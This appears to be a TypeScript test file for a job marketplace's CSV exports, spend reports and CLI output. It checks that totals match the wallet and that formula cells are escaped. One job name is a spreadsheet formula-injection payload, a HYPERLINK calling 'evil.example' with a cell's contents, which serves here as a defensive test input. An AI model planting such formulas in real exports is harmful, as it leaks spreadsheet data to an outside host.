// Tables for spreadsheets, and what was spent: what they say is what the books say.
import { afterAll, beforeAll, expect, test } from 'vitest'
import type { JobId } from '@lumaris/protocol'
import { aShell } from '../../apps/cli/src/test-cli.ts'
import { startMarket } from '../start-market.ts'
import type { TestMarket } from '../start-market.ts'

const HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
let market: TestMarket
const made: JobId[] = []
beforeAll(async () => {
  market = await startMarket({ agents: 1 })
  for (const name of ['nightly', 'nightly', HOSTILE]) {
    const { body } = await market.submit({ name, command: ['fake:sleep', '150', ';', 'fake:print', 'x'] })
    await market.ended(body.id)
    made.push(body.id)
  }
})
afterAll(async () => { await market?.stop() })
const micros = (text: string): bigint => BigInt(text.replace('.', ''))

test('jobs as CSV: all of them, exact sums, and no formula', async () => {
  const { status, headers, body } = await market.call(market.buyer, 'GET', '/v1/exports/jobs')
  expect([status, headers.get('content-type'), headers.get('content-disposition')]).toEqual([200, 'text/csv; charset=utf-8; header=present', 'attachment; filename="lumaris-jobs.csv"'])
  const lines = (body as string).trimEnd().split('\r\n')
  expect(lines).toHaveLength(4)
  expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(made.toReversed())
  expect(lines[1]).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",completed,`)
  const costs = lines.slice(2).map((line) => micros(line.split(',')[11] ?? ''))
  expect(costs.every((one) => one > 0n)).toBe(true)
  expect(((await market.call(market.buyer, 'GET', '/v1/exports/jobs?state=failed')).body as string).trimEnd().split('\r\n')).toHaveLength(1)
})
test('movements as CSV: more than a page of them, and what the wallet says follows from them', async () => {
  for (let i = 0; i < 600; i++) await market.app.engine.act({ kind: 'topup', user: market.demo.buyer.id, amount: 1n, provider: 'demo', key: `many ${i}`, bodyHash: 'x' })
  const lines = ((await market.call(market.buyer, 'GET', '/v1/exports/entries')).body as string).trimEnd().split('\r\n').slice(1).map((line) => line.split(','))
  expect(lines.filter((cells) => cells[1] === 'topup')).toHaveLength(601)
  const mine = `buyer:${market.demo.buyer.id}:available`
  const left = lines.reduce((sum, cells) => sum + (cells[6] === mine ? micros(cells[7] ?? '') : 0n) - (cells[5] === mine ? micros(cells[7] ?? '') : 0n), 0n)
  expect(left.toString()).toBe((await market.call(market.buyer, 'GET', '/v1/wallet')).body.available)
})
test('what was spent, by day and by name, is what the jobs cost', async () => {
  const { body } = await market.call(market.buyer, 'GET', '/v1/spend?days=2'), { spent } = (await market.call(market.buyer, 'GET', '/v1/wallet')).body
  expect(body.total).toBe(spent)
  expect(body.days.reduce((sum: bigint, one: { cost: string }) => sum + BigInt(one.cost), 0n).toString()).toBe(spent)
  expect(body.names.map((one: { name: string; jobs: number }) => [one.name, one.jobs]).toSorted()).toEqual([[HOSTILE, 1], ['nightly', 2]])
  expect(body.days.at(-1).day).toMatch(/^\d{4}-\d{2}-\d{2}$/)
  expect((await market.call(market.demo.sellers[0]?.key ?? '', 'GET', '/v1/spend')).body).toMatchObject({ total: '0', days: [], names: [] })
  expect((await market.call(market.buyer, 'GET', '/v1/spend?days=0')).body.code).toBe('invalid_request')
})
test('the same from the command line', async () => {
  const { cli } = aShell({ LUMARIS_URL: market.url, LUMARIS_TOKEN: market.buyer })
  expect((await cli(['jobs', '--csv'])).stdout.trimEnd().split('\r\n')).toHaveLength(4)
  expect((await cli(['wallet', '--csv'])).stdout).toMatch(/^entry,kind,when,/)
})
